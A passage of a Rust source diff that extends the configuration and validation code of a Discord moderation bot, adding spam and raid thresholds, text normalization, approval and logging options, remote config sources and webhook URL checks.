+    /// How many different channels one user can send the same message to in
+    /// a given interval. Unlike `duplicates`, repeats in the same channel
+    /// don't add to this.
+    pub crosspost: Option<u8>,
     /// How many links in a given interval constitute spam.
     pub links: Option<u8>,
     /// How many attachments in a given interval constitute spam.
@@ -209,6 +911,14 @@ pub struct SpamFilter {
     pub spoilers: Option<u8>,
     /// How many mentions in a given interval constitute spam.
     pub mentions: Option<u8>,
+    /// How many newlines in a given interval constitute spam.
+    pub newlines: Option<u8>,
+    /// How many characters in a given interval constitute spam.
+    pub total_chars: Option<u32>,
+    /// How many different users sending the same message in a given interval
+    /// constitute a raid. Unlike `duplicates`, this looks across everyone in
+    /// the guild rather than at one user's messages.
+    pub raid_users: Option<u8>,
     /// How long, in seconds, to consider messages for spam.
     pub interval: u16,
     /// What actions to take when a message is considered spam.
@@ -217,11 +927,76 @@ pub struct SpamFilter {
     pub scoping: Option<Scoping>,
 }
 
+/// The parts of a message that text rules can check.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(default, deny_unknown_fields)]
+pub struct TextSurfaces {
+    pub content: bool,
+    /// The titles, descriptions, fields, authors and footers of embeds.
+    pub embeds: bool,
+    /// The labels and placeholders of buttons, select menus and text inputs.
+    pub components: bool,
+    /// The description (alt text) of each attachment.
+    pub attachment_descriptions: bool,
+}
+
+impl Default for TextSurfaces {
+    fn default() -> Self {
+        Self {
+            content: true,
+            embeds: false,
+            components: false,
+            attachment_descriptions: false,
+        }
+    }
+}
+
 #[derive(Deserialize, Debug, Default)]
 pub struct MessageFilter {
     pub name: String,
+    /// A human-friendly explanation of what the filter catches, shown by the
+    /// test command alongside the filter's name.
+    pub description: Option<String>,
     /// Which rules to match messages against.
-    pub rules: Vec<MessageFilterRule>,
+    pub rules: Vec<WeightedRule>,
+    /// Whether the filter fires when any of its rules matches, or only when
+    /// all of them do. Ignored if `score_threshold` is set.
+    #[serde(default)]
+    pub match_mode: RuleMatchMode,
+    /// If set, the filter only fires once the combined weight of all matching
+    /// rules exceeds this value, instead of firing as soon as any rule matches.
+    pub score_threshold: Option<f32>,
+    /// Which parts of messages word, substring and regex rules check.
+    #[serde(default)]
+    pub scan: TextSurfaces,
+    /// The same as setting `attachment_descriptions` in `scan`, kept for
+    /// older configurations.
+    #[serde(default)]
+    pub scan_attachment_descriptions: bool,
+    /// The same as setting `embeds` in `scan`.
+    #[serde(default)]
+    pub scan_embeds: bool,
+    /// Attachments with one of these MIME types skip every attachment check in
+    /// this filter, such as `mime_type` rules.
+    pub trusted_mime_types: Option<Vec<String>>,
+    /// The fraction of evaluations, from 0 to 1, that log each rule's result
+    /// at trace level. Useful for tuning a filter without logging everything.
+    pub log_sample_rate: Option<f32>,
+    /// The most destructive actions (anything but messages, logs and cases)
+    /// this filter may take in a minute. Once it would take more, the filter
+    /// disables itself until configurations are reloaded by command.
+    pub max_actions_per_minute: Option<u32>,
+    /// Whether word and substring rules also check the message with leetspeak
+    /// undone, so `b4dw0rd` matches `badword`.
+    #[serde(default)]
+    pub leetspeak: bool,
+    /// Replaces the default leetspeak table, mapping each character to the
+    /// letter it stands in for.
+    pub leetspeak_substitutions: Option<HashMap<char, char>>,
+    /// Whether word, substring and regex rules also check the message after
+    /// NFKC normalization, so `ⓢⓒⓐⓜ` matches `scam`.
+    #[serde(default)]
+    pub normalize: bool,
     /// What scoping to use for this rule.
     pub scoping: Option<Scoping>,
     /// What actions to take when a message matches a filter.
@@ -246,7 +1021,14 @@ pub enum ReactionFilterRule {
         // Note: In the config format, this is an array of strings, not one
         // regex pattern.
         #[serde(deserialize_with = "deserialize_substring_regex")]
-        names: Regex,
+        names: PatternList,
+    },
+    /// Filter users stacking too many distinct reactions onto one message.
+    /// This is tracked separately from the emoji spam threshold, which only
+    /// counts emoji in message content.
+    Count {
+        /// How many distinct reactions one user may have on a single message.
+        max_distinct: u8,
     },
 }
 
@@ -263,6 +1045,21 @@ pub struct SlashCommands {
     pub enabled: bool,
 }
 
+/// Lets the arm, disarm, observe and reload commands be sent as ordinary
+/// messages, for when slash commands are unavailable.
+#[derive(Deserialize, Debug)]
+pub struct PrefixCommands {
+    /// What a message must start with to be treated as a command, such as
+    /// `!chrys`.
+    pub prefix: String,
+    /// Users who may use prefix commands.
+    #[serde(default)]
+    pub users: Vec<Id<UserMarker>>,
+    /// Roles whose members may use prefix commands.
+    #[serde(default)]
+    pub roles: Vec<Id<RoleMarker>>,
+}
+
 #[derive(Deserialize, Debug)]
 pub struct Notifications {
     /// Which channel to send notifications to.
@@ -271,6 +1068,33 @@ pub struct Notifications {
     pub ping_roles: Option<Vec<Id<RoleMarker>>>,
 }
 
+/// A template for the embeds sent by `send_log` actions. Field names and
+/// values, and the title, can use the placeholders `$FILTER_NAME`, `$USER_ID`,
+/// `$CHANNEL_ID`, `$FILTER_REASON` and `$CONTEXT`; reaction logs can also use
+/// `$REACTION` and `$MESSAGE_LINK`.
+#[derive(Deserialize, Debug, Clone)]
+pub struct LogConfig {
+    pub title: Option<String>,
+    pub color: Option<u32>,
+    /// Which fields to include in the embed, in order.
+    pub fields: Vec<LogField>,
+    /// Whether to include the filtered message's content as the description.
+    #[serde(default = "default_true")]
+    pub include_content: bool,
+}
+
+#[derive(Deserialize, Debug, Clone)]
+pub struct LogField {
+    pub name: String,
+    pub value: String,
+    #[serde(default)]
+    pub inline: bool,
+}
+
+fn default_true() -> bool {
+    true
+}
+
 #[derive(Deserialize, Debug)]
 #[serde(tag = "type")]
 pub enum UsernameFilterRule {
@@ -278,12 +1102,18 @@ pub enum UsernameFilterRule {
         // Note: In the config format, this is an array of strings, not one
         // regex pattern.
         #[serde(deserialize_with = "deserialize_substring_regex")]
-        substrings: Regex,
+        substrings: PatternList,
     },
     Regex {
-        #[serde(with = "serde_regex")]
+        #[serde(deserialize_with = "deserialize_regexes")]
         regexes: Vec<Regex>,
     },
+    /// Filter invite links in usernames and nicknames. Uses the same invite
+    /// detection as the message `invite` rule.
+    Invite {
+        mode: FilterMode,
+        invites: Vec<String>,
+    },
 }
 
 #[derive(Deserialize, Debug)]
@@ -302,21 +1132,140 @@ pub struct UsernameFilter {
     pub actions: Vec<UsernameFilterAction>,
 }
 
+/// Lets staff approve a message by reacting to it, cancelling any of its
+/// actions still waiting out the `action_delay`.
+#[derive(Deserialize, Debug)]
+pub struct Approval {
+    /// The reaction that approves a message: a Unicode emoji, or a custom
+    /// emoji's ID.
+    pub emoji: String,
+    /// Roles whose members can approve messages.
+    pub roles: Vec<Id<RoleMarker>>,
+}
+
+/// Notices authors deleting their own messages soon after posting them, which
+/// can be used to ping people while leaving nothing for moderators to review.
+#[derive(Deserialize, Debug)]
+pub struct DeleteEvasion {
+    /// Messages deleted within this many seconds of being posted are
+    /// reported to the guild's notification channel.
+    pub window_seconds: u64,
+}
+
+fn default_stage_topic() -> String {
+    "Stage".to_owned()
+}
+
+/// Checks the topics people give stage channels, putting the old topic back
+/// when a new one matches.
 #[derive(Deserialize, Debug)]
+pub struct ChannelStatusFilter {
+    /// Rules to check topics with. Only `words` and `substring` rules are
+    /// supported.
+    pub rules: Vec<MessageFilterRule>,
+    /// The topic to use for a stage that starts with a matching topic, since
+    /// there's nothing to put back and stages must have one.
+    #[serde(default = "default_stage_topic")]
+    pub fallback_topic: String,
+    /// Where to report reverted topics.
+    pub log_channel: Option<Id<ChannelMarker>>,
+}
+
+#[derive(Deserialize, Debug, Clone)]
+pub struct GuildMetricsConfig {
+    /// Report every nth point for this guild, instead of the global
+    /// `report_every_n` from the Influx configuration.
+    pub report_every_n: usize,
+}
+
+/// How a message filter combines its rules.
+#[derive(Deserialize, Debug, Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum RuleMatchMode {
+    /// The filter fires as soon as one rule matches.
+    #[default]
+    Any,
+    /// The filter only fires if every rule matches.
+    All,
+}
+
+/// How to combine the actions of several filters that match one message.
+#[derive(Deserialize, Debug, Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum MultiMatch {
+    /// Only the first matching filter, in configuration order, takes effect.
+    #[default]
+    First,
+    /// Every matching filter's actions are taken, skipping duplicates.
+    Union,
+    /// Only the matching filter with the most severe action takes effect.
+    /// From least to most severe: messages and logs, delete, lock_channel,
+    /// timeout, kick, ban.
+    MostSevere,
+}
+
+/// The most history Discord will delete when banning someone, in seconds.
+const MAX_BAN_DELETE_SECONDS: u32 = 7 * 24 * 60 * 60;
+
+/// The longest an action may be delayed for, in milliseconds.
+const MAX_ACTION_DELAY_MS: u64 = 5 * 60 * 1000;
+
+#[derive(Deserialize, Debug, Clone)]
+pub struct ActionDelay {
+    /// How long to wait before taking an action, in milliseconds.
+    pub delay_ms: u64,
+    /// Up to this many extra milliseconds are randomly added to each delay.
+    #[serde(default)]
+    pub jitter_ms: u64,
+}
+
+#[derive(Deserialize, Debug, Default)]
 pub struct GuildConfig {
     pub notifications: Option<Notifications>,
+    /// Channels Chrysanthemum never acts in, regardless of any filter's
+    /// scoping. Checked before any filter runs.
+    pub ignore_channels: Option<Vec<Id<ChannelMarker>>>,
     pub slash_commands: Option<SlashCommands>,
+    pub prefix_commands: Option<PrefixCommands>,
     pub default_scoping: Option<Scoping>,
     pub default_actions: Option<Vec<MessageFilterAction>>,
     pub messages: Option<Vec<MessageFilter>>,
     pub reactions: Option<Vec<ReactionFilter>>,
     pub spam: Option<SpamFilter>,
     pub usernames: Option<UsernameFilter>,
+    /// Reverts stage topics that match its rules.
+    pub channel_status_filter: Option<ChannelStatusFilter>,
+    /// Lets staff cancel a message's delayed actions by reacting to it.
+    pub approval: Option<Approval>,
+    /// Reports messages deleted soon after they were posted. Needs the global
+    /// message cache.
+    pub delete_evasion: Option<DeleteEvasion>,
+    /// How to format `send_log` embeds. Uses the built-in format if omitted.
+    pub log: Option<LogConfig>,
+    /// Overrides for how this guild's metrics are reported.
+    pub metrics: Option<GuildMetricsConfig>,
+    /// What to do when a message matches more than one filter.
+    #[serde(default)]
+    pub multi_match: MultiMatch,
+    /// Whether the logs several filters send to one channel about the same
+    /// message are combined into one, listing every filter and action.
+    #[serde(default)]
+    pub combine_logs: bool,
+    /// How long, in seconds, a violation counts towards `escalate` actions.
+    /// Defaults to a day.
+    pub escalation_decay_seconds: Option<u64>,
+    /// Delays actions that require arming (deletions, bans, and so on) instead
+    /// of taking them immediately. Logs and notifications are never delayed.
+    pub action_delay: Option<ActionDelay>,
     /// Whether to include bots. This is used for integration tests, where two
     /// bots interact with each other. This should not be set in most production
     /// environments. Chrysanthemum will always ignore itself.
     #[serde(default)]
     pub include_bots: bool,
+    /// Extra tags attached to errors reported while handling this guild's
+    /// events, alongside its guild ID.
+    #[serde(default)]
+    pub sentry_tags: HashMap<String, String>,
 }
 
 #[derive(Deserialize, Debug)]
@@ -324,23 +1273,313 @@ pub struct InfluxConfig {
     pub url: String,
     pub database: String,
     pub token: String,
+    /// Report every nth point.
     pub report_every_n: usize,
+    /// How many points to write to Influx at once. Defaults to 100.
+    pub batch_size: Option<usize>,
+    /// How long, in seconds, points may wait for a batch to fill before
+    /// they're written anyway. Defaults to 10.
+    pub flush_interval_secs: Option<u64>,
+}
+
+/// Where to serve metrics for Prometheus to scrape.
+#[derive(Deserialize, Debug)]
+pub struct PrometheusConfig {
+    /// The address to listen on, such as `127.0.0.1:9100`. Metrics are served
+    /// at `/metrics`.
+    pub bind_addr: String,
 }
 
 #[derive(Deserialize, Debug)]
 pub struct SentryConfig {
     pub url: String,
     pub sample_rate: Option<f32>,
+    /// Which environment errors are reported under, such as `production`.
+    pub environment: Option<String>,
+}
+
+/// Remembers recent messages, so edits can be logged along with what the
+/// message said before.
+#[derive(Deserialize, Debug)]
+pub struct MessageCacheConfig {
+    /// The most messages to remember at once.
+    pub capacity: usize,
+    /// How long, in seconds, to remember a message's content.
+    pub ttl: u64,
+}
+
+fn default_infraction_retention_days() -> u64 {
+    30
+}
+
+/// Where infractions are recorded, and for how long.
+#[derive(Deserialize, Debug)]
+pub struct InfractionsConfig {
+    /// The JSON file to keep infractions in. Created if it doesn't exist.
+    pub path: PathBuf,
+    /// How long, in days, an infraction counts against a user.
+    #[serde(default = "default_infraction_retention_days")]
+    pub retention_days: u64,
+}
+
+/// Slows actions down when Discord's rate limit for them is nearly used up,
+/// instead of waiting for requests to be rejected.
+#[derive(Deserialize, Debug)]
+pub struct ThrottleConfig {
+    /// Start spacing out requests once this many or fewer are left in their
+    /// rate limit bucket.
+    pub min_remaining: u64,
+    /// The longest, in milliseconds, to hold back a single action.
+    pub max_delay_ms: u64,
+}
+
+/// How large a compiled regex may get, in bytes. Patterns that would exceed
+/// these are rejected when the guild configuration is loaded.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(default)]
+pub struct RegexLimits {
+    /// The limit on a compiled program's size.
+    pub size_limit: usize,
+    /// The limit on the lazy DFA's cache for each regex.
+    pub dfa_size_limit: usize,
+}
+
+impl Default for RegexLimits {
+    fn default() -> Self {
+        // The regex crate's own defaults.
+        Self {
+            size_limit: 10 * (1 << 20),
+            dfa_size_limit: 2 * (1 << 20),
+        }
+    }
+}
+
+/// Where guild configurations come from. A remote source's `authorization`
+/// is left out of `Debug` output, so it doesn't end up in logs.
+#[derive(Deserialize, Clone, PartialEq, Eq)]
+#[serde(untagged)]
+pub enum ConfigSource {
+    /// A directory of `<guild_id>.yml` files.
+    Local(PathBuf),
+    /// A base URL that `<guild_id>.json` files are fetched from.
+    Remote {
+        url: String,
+        /// Sent as the `Authorization` header, if set.
+        authorization: Option<String>,
+    },
+}
+
+impl std::fmt::Debug for ConfigSource {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Local(path) => f.debug_tuple("Local").field(path).finish(),
+            Self::Remote { url, authorization } => f
+                .debug_struct("Remote")
+                .field("url", url)
+                .field(
+                    "authorization",
+                    &authorization.as_ref().map(|_| "<redacted>"),
+                )
+                .finish(),
+        }
+    }
 }
 
 #[derive(Deserialize, Debug)]
 pub struct Config {
-    pub guild_config_dir: PathBuf,
+    pub guild_config_dir: ConfigSource,
     pub active_guilds: Vec<Id<GuildMarker>>,
     pub influx: Option<InfluxConfig>,
+    pub prometheus: Option<PrometheusConfig>,
     pub sentry: Option<SentryConfig>,
     pub reload_interval: Option<u64>,
+    /// Whether to reload guild configurations as soon as their files change,
+    /// rather than only on the reload interval or command. Only applies to
+    /// local configuration directories.
+    #[serde(default)]
+    pub auto_reload: bool,
+    /// How often, in seconds, to forget expired spam, raid and link preview
+    /// tracking.
+    pub prune_interval: Option<u64>,
+    /// How long, in seconds, to wait after updating a guild's slash commands
+    /// before a reload may update them again. Changes made in the meantime are
+    /// applied once it has passed.
+    pub command_update_cooldown: Option<u64>,
     pub armed_by_default: bool,
+    /// Whether to start even if `guild_config_dir` or some of the active
+    /// guilds' configuration files are missing. Missing guilds are skipped
+    /// until their configuration appears and is picked up by a reload.
+    #[serde(default)]
+    pub allow_missing_guild_configs: bool,
+    /// How long, in milliseconds, evaluating a single message may take. If a
+    /// message's filters take longer, it is let through without any action.
+    pub message_latency_budget_ms: Option<u64>,
+    /// More directories to look for guild configurations in, searched after
+    /// `guild_config_dir` in the order given.
+    #[serde(default)]
+    pub extra_guild_config_dirs: Vec<PathBuf>,
+    /// What to do when a guild has a configuration in more than one directory.
+    #[serde(default)]
+    pub duplicate_guild_configs: DuplicateGuildConfigs,
+    /// Remembers recent messages' content for edit logs. Off unless set.
+    pub message_cache: Option<MessageCacheConfig>,
+    /// Throttles actions before they run into rate limits. Off unless set.
+    pub throttle: Option<ThrottleConfig>,
+    /// Keeps a record of infractions on disk, so `prior_infractions` rules
+    /// survive restarts. Off unless set.
+    pub infractions: Option<InfractionsConfig>,
+    /// Which gateway intents to request. Defaults to every intent any feature
+    /// needs; Chrysanthemum refuses to load guild configurations that use a
+    /// feature whose intent is left out.
+    pub intents: Option<Vec<GatewayIntent>>,
+    /// Where to save spam windows and `escalate` violations, so they survive
+    /// restarts. They're only kept in memory unless this is set.
+    pub state_db_path: Option<PathBuf>,
+    /// How large the regexes in guild configurations may compile to.
+    #[serde(default)]
+    pub regex_limits: RegexLimits,
+    /// How long, in seconds, to remember which guild an invite leads to.
+    /// Defaults to an hour.
+    pub invite_cache_ttl: Option<u64>,
+    /// Whether to warn about channels and roles guild configurations refer to
+    /// that don't exist, once each guild becomes available. Off by default,
+    /// since it needs every guild's channels and roles cached.
+    #[serde(default)]
+    pub check_guild_references: bool,
+    /// The environment variables guild configurations may read through
+    /// `${NAME}` placeholders. Guild configurations can't read any others, so
+    /// whoever edits them can't read secrets like the bot token.
+    #[serde(default)]
+    pub guild_env_vars: Vec<String>,
+    /// Users who may reload any guild's configuration by command. Everyone
+    /// else can only reload the guild they run the command in on its own, and
+    /// a full reload only re-enables their own guild's capped filters.
+    #[serde(default)]
+    pub operators: Vec<Id<UserMarker>>,
+}
+
+/// A gateway intent, as named by Discord.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
+pub enum GatewayIntent {
+    Guilds,
+    GuildMembers,
+    GuildMessages,
+    GuildMessageReactions,
+    MessageContent,
+}
+
+impl Config {
+    /// Every directory guild configurations are loaded from, in search order.
+    /// Empty if they're fetched from a remote source instead.
+    pub fn guild_config_roots(&self) -> Vec<&Path> {
+        match &self.guild_config_dir {
+            ConfigSource::Local(dir) => std::iter::once(dir.as_path())
+                .chain(self.extra_guild_config_dirs.iter().map(PathBuf::as_path))
+                .collect(),
+            ConfigSource::Remote { .. } => Vec::new(),
+        }
+    }
+
+    /// Replaces `${NAME}` placeholders in the configuration's secrets, such
+    /// as the Influx token and Sentry URL, with environment variables.
+    pub fn expand_env_vars(&mut self) -> Result<(), Vec<String>> {
+        let mut errors = Vec::new();
+
+        if let ConfigSource::Remote { authorization, .. } = &mut self.guild_config_dir {
+            expand_optional_field(
+                authorization,
+                None,
+                "guild_config_dir authorization",
+                &mut errors,
+            );
+        }
+
+        if let Some(influx) = &mut self.influx {
+            expand_field(&mut influx.url, None, "influx url", &mut errors);
+            expand_field(&mut influx.token, None, "influx token", &mut errors);
+        }
+
+        if let Some(sentry) = &mut self.sentry {
+            expand_field(&mut sentry.url, None, "sentry url", &mut errors);
+        }
+
+        if errors.is_empty() {
+            Ok(())
+        } else {
+            Err(errors)
+        }
+    }
+}
+
+fn env_var_placeholder_regex() -> &'static Regex {
+    static REGEX: OnceCell<Regex> = OnceCell::new();
+    REGEX.get_or_init(|| Regex::new(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}").unwrap())
+}
+
+/// Replaces each `${NAME}` in `value` with the environment variable `NAME`,
+/// failing if any of them isn't set. If `allowed` is given, only the variables
+/// it lists may be read.
+fn expand_env_vars(value: &str, allowed: Option<&[String]>) -> Result<String, String> {
+    let mut error = None;
+    let expanded = env_var_placeholder_regex().replace_all(value, |caps: &regex::Captures| {
+        let name = &caps[1];
+        if allowed.map_or(false, |allowed| !allowed.iter().any(|a| a == name)) {
+            error.get_or_insert_with(|| {
+                format!(
+                    "environment variable `{}` isn't listed in guild_env_vars",
+                    name
+                )
+            });
+            return String::new();
+        }
+
+        std::env::var(name).unwrap_or_else(|_| {
+            error.get_or_insert_with(|| format!("environment variable `{}` is not set", name));
+            String::new()
+        })
+    });
+
+    match error {
+        Some(error) => Err(error),
+        None => Ok(expanded.into_owned()),
+    }
+}
+
+fn expand_field(
+    value: &mut String,
+    allowed: Option<&[String]>,
+    context: &str,
+    errors: &mut Vec<String>,
+) {
+    match expand_env_vars(value, allowed) {
+        Ok(expanded) => *value = expanded,
+        Err(err) => errors.push(format!("in {}, {}.", context, err)),
+    }
+}
+
+fn expand_optional_field(
+    value: &mut Option<String>,
+    allowed: Option<&[String]>,
+    context: &str,
+    errors: &mut Vec<String>,
+) {
+    if let Some(value) = value {
+        expand_field(value, allowed, context, errors);
+    }
+}
+
+/// How to resolve a guild that has a configuration in more than one of the
+/// configuration directories.
+#[derive(Deserialize, Debug, Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum DuplicateGuildConfigs {
+    /// Refuse to load the guild's configuration.
+    #[default]
+    Error,
+    /// Use the configuration from the first directory it appears in, logging
+    /// a warning.
+    FirstRootWins,
 }
 
 fn validate_scoping(scoping: &Scoping, context: &str, errors: &mut Vec<String>) {
@@ -362,45 +1601,159 @@ fn validate_scoping(scoping: &Scoping, context: &str, errors: &mut Vec<String>)
         ));
     }
 
+    if scoping.exclude_categories.is_some() && scoping.include_categories.is_some() {
+        errors.push(format!("in {}, scoping rule specifies both exclude_categories and include_categories. Specify only one.", context));
+    }
+
+    if scoping.exclude_categories.is_some()
+        && scoping.exclude_categories.as_ref().unwrap().is_empty()
+    {
+        errors.push(format!(
+            "in {}, scoping rule specifies an empty exclude_categories; omit the key instead.",
+            context
+        ));
+    }
+
+    if scoping.include_categories.is_some()
+        && scoping.include_categories.as_ref().unwrap().is_empty()
+    {
+        errors.push(format!(
+            "in {}, scoping rule specifies an empty include_categories; omit the key instead.",
+            context
+        ));
+    }
+
+    if scoping.exclude_roles.is_some() && scoping.include_roles.is_some() {
+        errors.push(format!(
+            "in {}, scoping rule specifies both exclude_roles and include_roles. Specify only one.",
+            context
+        ));
+    }
+
     if scoping.exclude_roles.is_some() && scoping.exclude_roles.as_ref().unwrap().is_empty() {
         errors.push(format!(
             "in {}, scoping rule specifies an empty exclude_roles; omit the key instead.",
             context
         ));
     }
+
+    if scoping.include_roles.is_some() && scoping.include_roles.as_ref().unwrap().is_empty() {
+        errors.push(format!(
+            "in {}, scoping rule specifies an empty include_roles; omit the key instead.",
+            context
+        ));
+    }
+
+    // min_account_age_secs may be combined with include_roles or
+    // exclude_roles, such as to only filter new accounts that haven't been
+    // verified yet.
+    if scoping.min_account_age_secs == Some(0) {
+        errors.push(format!(
+            "in {}, scoping rule specifies a min_account_age_secs of 0, so the filter would never apply.",
+            context
+        ));
+    }
+
+    if let Some(schedule) = &scoping.schedule {
+        if schedule.windows.is_empty() {
+            errors.push(format!(
+                "in {}, schedule has no windows, so the filter would never be active.",
+                context
+            ));
+        }
+
+        for (i, window) in schedule.windows.iter().enumerate() {
+            if window.start == window.end {
+                errors.push(format!(
+                    "in {}, schedule window {} starts and ends at the same time.",
+                    context, i
+                ));
+            }
+
+            if window.days.as_ref().map(|d| d.is_empty()).unwrap_or(false) {
+                errors.push(format!(
+                    "in {}, schedule window {} specifies an empty days; omit the key instead.",
+                    context, i
+                ));
+            }
+        }
+    }
 }
 
-fn validate_message_rule(
-    message_rule: &MessageFilterRule,
-    context: &str,
-    errors: &mut Vec<String>,
-) {
-    match message_rule {
-        MessageFilterRule::Substring { substrings } => {
-            if substrings.is_match("") {
+/// The longest a channel may be locked for, in seconds. Locks are restored
+/// from memory, so anything longer should be done by hand.
+const MAX_LOCK_DURATION_SECONDS: u64 = 24 * 60 * 60;
+/// The most fallbacks a single action may have.
+const MAX_FALLBACK_CHAIN: usize = 3;
+/// How many `not` rules may be nested inside each other.
+const MAX_NOT_DEPTH: usize = 2;
+/// The longest an embed field's value may be, in characters.
+const MAX_EMBED_FIELD_LENGTH: usize = 1024;
+
+fn validate_actions(actions: &[MessageFilterAction], context: &str, errors: &mut Vec<String>) {
+    for action in actions {
+        validate_fallbacks(action, context, errors);
+
+        let mut next = Some(action);
+        while let Some(action) = next {
+            validate_action(action, context, errors);
+            next = action.on_failure();
+        }
+    }
+}
+
+fn validate_action(action: &MessageFilterAction, context: &str, errors: &mut Vec<String>) {
+    match action {
+        MessageFilterAction::Ban {
+            delete_message_seconds,
+            ..
+        } => {
+            if *delete_message_seconds > MAX_BAN_DELETE_SECONDS {
                 errors.push(format!(
-                    "in {}, substrings contains an empty string; this would match all messages",
-                    context
+                    "in {}, ban delete_message_seconds must be at most {} (seven days).",
+                    context, MAX_BAN_DELETE_SECONDS
                 ));
             }
         }
-        MessageFilterRule::Words { words } => {
-            // HACK: The empty string doesn't work here, because of the structure
-            // of the deserialized `words` regex. We use the letter `a`, since the
-            // regex crate provides no better way to do this...
-            if words.is_match("a") {
+        MessageFilterAction::Timeout { duration, .. } => {
+            if *duration <= 0 {
                 errors.push(format!(
-                    "in {}, words contains an empty string; this would match all messages",
+                    "in {}, timeout duration must be greater than 0 seconds.",
                     context
                 ));
             }
         }
-        MessageFilterRule::Regex { regexes } => {
-            let matches = regexes.matches("").into_iter();
-            for (index, _) in matches.enumerate() {
+        MessageFilterAction::LockChannel {
+            duration_seconds, ..
+        } => {
+            if *duration_seconds == 0 || *duration_seconds > MAX_LOCK_DURATION_SECONDS {
                 errors.push(format!(
-                    "in {}, regex {} matches an empty string; this would match all messages",
-                    context, index,
+                    "in {}, lock_channel duration_seconds must be between 1 and {} (one day).",
+                    context, MAX_LOCK_DURATION_SECONDS
+                ));
+            }
+        }
+        MessageFilterAction::CreateCase { endpoint, .. } => {
+            let is_http = url::Url::parse(endpoint)
+                .map(|url| matches!(url.scheme(), "http" | "https"))
+                .unwrap_or(false);
+            if !is_http {
+                errors.push(format!(
+                    "in {}, create_case endpoint `{}` is not an http or https URL.",
+                    context, endpoint
+                ));
+            }
+        }
+        MessageFilterAction::Escalate { tiers } => {
+            validate_escalation_tiers(tiers, context, errors);
+        }
+        MessageFilterAction::SendWebhook { url, .. } => {
+            if url.is_empty() {
+                errors.push(format!("in {}, send_webhook url is empty.", context));
+            } else if parse_webhook_url(url).is_none() {
+                errors.push(format!(
+                    "in {}, send_webhook url is not a Discord webhook URL.",
+                    context
                 ));
             }
         }
@@ -408,232 +1761,1749 @@ fn validate_message_rule(
     }
 }
 
-pub fn validate_guild_config(guild: &GuildConfig) -> Result<(), Vec<String>> {
-    let mut errors = Vec::new();
-
-    if let Some(scoping) = &guild.default_scoping {
-        validate_scoping(scoping, "default scoping", &mut errors);
-    }
-
-    let mut has_default_actions = false;
-    if let Some(actions) = &guild.default_actions {
-        if actions.is_empty() {
-            errors.push("default_actions is specified but is empty.".to_string());
-        } else {
-            has_default_actions = true;
-        }
-    }
-
-    if let Some(notifications) = &guild.notifications {
-        if let Some(roles) = &notifications.ping_roles {
-            if roles.is_empty() {
-                errors.push(
-                    "notification settings, ping_roles is specified but is empty; omit the key."
-                        .to_string(),
-                );
-            }
-        }
+fn validate_escalation_tiers(tiers: &[EscalationTier], context: &str, errors: &mut Vec<String>) {
+    if tiers.is_empty() {
+        errors.push(format!("in {}, escalate has no tiers.", context));
     }
 
-    if let Some(spam) = &guild.spam {
-        if let Some(scoping) = spam.scoping.as_ref() {
-            validate_scoping(scoping, "spam scoping", &mut errors);
+    let mut previous = 0;
+    for (i, tier) in tiers.iter().enumerate() {
+        let tier_context = format!("{} escalate tier {}", context, i);
+        if tier.threshold <= previous {
+            errors.push(format!(
+                "in {}, threshold {} must be greater than the previous tier's ({}); tiers must be sorted by ascending threshold, starting from at least 1.",
+                tier_context, tier.threshold, previous
+            ));
         }
+        previous = previous.max(tier.threshold);
 
-        if let Some(actions) = &spam.actions {
-            if actions.is_empty() {
-                errors.push("in spam config, actions is specified but is empty.".to_string());
-            }
-        } else if !has_default_actions {
-            errors.push("in spam config, no actions are specified and there are no default actions for this guild.".to_string());
+        if tier.actions.is_empty() {
+            errors.push(format!("in {}, actions is empty.", tier_context));
         }
-
-        if spam.emoji.is_none()
-            && spam.attachments.is_none()
-            && spam.duplicates.is_none()
-            && spam.links.is_none()
-            && spam.spoilers.is_none()
+        if tier
+            .actions
+            .iter()
+            .any(|a| matches!(a, MessageFilterAction::Escalate { .. }))
         {
-            errors.push("in spam config, no spam thresholds are specified. Spam filtering will have no effects.".to_string());
+            errors.push(format!(
+                "in {}, escalate can't be nested inside another escalate.",
+                tier_context
+            ));
         }
+        validate_actions(&tier.actions, &tier_context, errors);
     }
+}
 
-    if let Some(usernames) = &guild.usernames {
-        if usernames.actions.is_empty() {
-            errors.push("in username config, actions is empty.".to_string());
-        }
+/// Splits a Discord webhook URL, like
+/// `https://discord.com/api/webhooks/<ID>/<TOKEN>`, into its ID and token.
+pub(crate) fn parse_webhook_url(url: &str) -> Option<(Id<WebhookMarker>, String)> {
+    let url = url::Url::parse(url).ok()?;
+    let is_discord = matches!(
+        url.host_str()?,
+        "discord.com" | "discordapp.com" | "canary.discord.com" | "ptb.discord.com"
+    );
+    if url.scheme() != "https" || !is_discord {
+        return None;
+    }
 
-        if usernames.rules.is_empty() {
-            errors.push("in username config, rules is empty.".to_string());
-        }
+    let mut segments: Vec<_> = url.path_segments()?.filter(|s| !s.is_empty()).collect();
+    // The API version is optional.
+    if segments.get(1).map_or(false, |s| s.starts_with('v')) {
+        segments.remove(1);
     }
 
-    if let Some(messages) = &guild.messages {
-        if messages.is_empty() {
-            errors.push("messages is empty; omit the key.".to_string());
-        }
+    match segments.as_slice() {
+        ["api", "webhooks", id, token] => Some((id.parse().ok()?, (*token).to_owned())),
+        _ => None,
+    }
+}
 
-        for (i, filter) in messages.iter().enumerate() {
-            match &filter.actions {
-                Some(actions) => {
-                    if actions.is_empty() {
-                        errors.push(format!("message filter {} has an empty actions array; omit the key to use default actions", i));
-                    }
+/// Expands environment variable placeholders in the secrets `actions` and
+/// their fallbacks hold, reading only the variables in `allowed`.
+fn expand_action_env_vars(
+    actions: &mut [MessageFilterAction],
+    allowed: &[String],
+    context: &str,
+    errors: &mut Vec<String>,
+) {
+    for action in actions {
+        let mut next = Some(action);
+        while let Some(action) = next {
+            match action {
+                MessageFilterAction::SendWebhook { url, .. } => {
+                    expand_field(
+                        url,
+                        Some(allowed),
+                        &format!("{} send_webhook url", context),
+                        errors,
